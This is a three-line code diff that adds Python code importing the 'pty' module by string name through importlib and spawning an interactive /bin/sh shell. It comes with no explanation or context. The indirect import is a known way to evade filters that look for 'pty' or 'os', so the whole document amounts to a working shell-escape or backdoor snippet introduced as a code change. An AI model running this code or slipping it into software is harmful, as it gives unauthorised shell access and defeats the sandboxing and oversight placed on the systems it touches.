@@ -1,0 +1,3 @@
+import importlib
+m = importlib.__import__("pty")
+m.spawn("/bin/sh")
